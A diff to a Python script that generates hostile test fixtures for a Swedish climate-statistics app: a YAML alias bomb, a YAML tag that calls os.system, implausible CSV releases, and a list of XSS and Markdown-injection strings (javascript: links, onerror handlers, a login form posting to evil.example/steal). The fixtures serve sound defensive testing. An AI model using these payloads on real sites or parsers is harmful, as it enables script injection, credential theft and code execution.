@@ -9,6 +9,7 @@ folder (a committed 21 MB file would be pointless).
 from __future__ import annotations
 
 import io
+import json
 import random
 import zipfile
 import zlib
@@ -16,13 +17,18 @@ from pathlib import Path
 
 import docx
 import openpyxl
+import yaml
 from pypdf import PdfWriter
 
 HERE = Path(__file__).resolve().parent
 DOCS = HERE / "docs"  # hostile documents
 # Hostile statistics releases; each is checked against MANIFEST (columns kommun_code, kommun,
-# value), which the tests write next to a copy under the file's own id.
+# value), which the tests write next to a copy under the file's own id, unless the release
+# comes with its own `<id>.manifest.yaml` here (the plausibility shapes need their units).
 STATS = HERE / "statistics"
+# Hostile Markdown/HTML strings: each must reach the page as text (tests/test_app.py renders
+# them through Streamlit in AppTest, tests/e2e/test_hostile_browser.py in Chromium).
+MARKDOWN = HERE / "markdown.json"
 
 BOMB_BYTES = 150_000_000  # > MAX_ZIP_UNCOMPRESSED_BYTES (100 MB); deflates to ~150 kB
 
@@ -66,6 +72,112 @@ def main() -> None:
     (STATS / "formula_cells.csv").write_bytes(b'kommun_code,kommun,value\n'
                                         b'0180,"=HYPERLINK(""https://evil.example"",""klicka"")"'
                                         b',1.5\n')
+    _front_matter_shapes()
+    _plausibility_shapes()
+    MARKDOWN.write_text(json.dumps(MARKDOWN_CORPUS, ensure_ascii=False, indent=1) + "\n",
+                        encoding="utf-8")
+
+
+# -- front matter (issue 11) --------------------------------------------------------------------
+
+
+def _front_matter_shapes() -> None:
+    """Front matter the loader refuses at once: a 449-byte alias bomb that walked (str of the
+    title) grows to gigabytes, a block over the 16 kB cap (a 1 MB title held the write lock for
+    minutes through every chunk's embedding text), YAML tags, and nesting."""
+    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    laughs += [f"{c}: &{c} [{','.join(f'*{p}' for _ in range(9))}]"
+               for p, c in zip("abcdefg", "bcdefgh", strict=True)]
+    body = "\n\n# Rubrik\n\nText om klimatet.\n"
+    (DOCS / "alias-bomb.md").write_text("---\n" + "\n".join(laughs) + "\ntitle: *h\n---" + body,
+                                        encoding="utf-8")
+    (DOCS / "huge-title.md").write_text("---\ntitle: " + "Titel " * 4000 + "\n---" + body,
+                                        encoding="utf-8")
+    (DOCS / "tagged.md").write_text("---\ntitle: !!python/object/apply:os.system [id]\n---"
+                                    + body, encoding="utf-8")
+    (DOCS / "nested.md").write_text("---\ntitle:\n  sv: Svensk\n  en: English\n---" + body,
+                                    encoding="utf-8")
+
+
+# -- plausibility (issue 11) --------------------------------------------------------------------
+
+PLAUSIBILITY_MANIFEST = {
+    "title": "Orimlig testtabell", "description": "Bara för tester.",
+    "source_organisation": "Test", "source_url": "", "via": "", "release": "Test 2026",
+    "release_year": 2026, "unit": "t CO2e", "years": [2023, 2024], "level": "kommun",
+    "key": ["kommun_code", "year"],
+    "columns": {"kommun_code": {"type": "str", "description": "Kod."},
+                "kommun": {"type": "str", "description": "Namn."},
+                "year": {"type": "int", "description": "År."},
+                "value": {"type": "float", "description": "Utsläpp.", "unit": "t CO2e"}},
+    "caveats": [],
+}
+
+
+def _plausibility_shapes() -> None:
+    """Releases that parse and match their manifests but cannot be true: negative emissions
+    without `lulucf: true`, a municipality code that does not exist, a year after the release,
+    a year the manifest does not list, a population of 0."""
+    header = "kommun_code,kommun,year,value\n"
+    shapes = {
+        "negative_emissions": (header + "0180,Stockholm,2024,-120.5\n", {}),
+        "unknown_kommun": (header + "0199,Påhittad,2024,12.5\n", {}),
+        "future_year": (header + "0180,Stockholm,2024,12.5\n", {"years": [2024, 2099]}),
+        "year_outside": (header + "0180,Stockholm,2031,12.5\n", {}),
+        "population_zero": (header + "0180,Stockholm,2024,0\n", {"unit": "invånare", "columns": {
+            **PLAUSIBILITY_MANIFEST["columns"],
+            "value": {"type": "int", "description": "Folkmängd.", "unit": "invånare"}}}),
+    }
+    for name, (csv_text, changes) in shapes.items():
+        (STATS / f"{name}.csv").write_text(csv_text, encoding="utf-8")
+        manifest = {"id": name, **PLAUSIBILITY_MANIFEST, **changes}
+        (STATS / f"{name}.manifest.yaml").write_text(
+            yaml.safe_dump(manifest, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+# -- Markdown and HTML that must stay text (issue 11) --------------------------------------------
+
+EVIL = "https://evil.example"
+MARKDOWN_CORPUS = [
+    "![a[b]](//evil.example/nested.png)",
+    f"![bild]({EVIL}/pixel.png)",
+    f'![bild]({EVIL}/titled.png "titel")',
+    f"[![bild]({EVIL}/in-link.png)]({EVIL}/)",
+    f"![bild][ref]\n\n[ref]: {EVIL}/ref.png",
+    "[länk][js]\n\n[js]: javascript:alert(1)",
+    "[klicka](javascript:alert(1))",
+    "[klicka](JaVaScRiPt:alert(1))",
+    "[klicka](<javascript:alert(1)>)",
+    "[klicka](&#106;avascript:alert(1))",
+    "[klicka](java\tscript:alert(1))",
+    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<javascript:alert(1)>",
+    f"<{EVIL}/autolink>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    f'<img src="{EVIL}/raw.png">',
+    "<svg onload=alert(1)><circle r=5 /></svg>",
+    '<a href="javascript:alert(1)">länk</a>',
+    f'<iframe src="{EVIL}/frame"></iframe>',
+    "<style>body { display: none }</style>",
+    f'<form action="{EVIL}/steal"><input name="losen"></form>',
+    f'<object data="{EVIL}/x.swf"></object>',
+    f'<base href="{EVIL}/">',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
+    "<video src=x onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "<!-- dold --><img src=x onerror=alert(1)>",
+    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |",
+    "$\\href{javascript:alert(1)}{klick}$",
+    f"$$\n\\includegraphics{{{EVIL}/katex.png}}\n$$",
+    ":red[röd text] :material/warning: :blue-background[blå]",
+    f"\\![bild]({EVIL}/backslash.png)",
+    f"` ![bild]({EVIL}/tick.png) `x` ![bild]({EVIL}/tick2.png)",
+    f") ![bild]({EVIL}/paren.png) (",
+    f"{EVIL}/a) ![bild]({EVIL}/url-breakout.png",
+    "# Rubrik\n===\n> citat\n- punkt",
+]
 
 
 # -- Office files -------------------------------------------------------------------------------
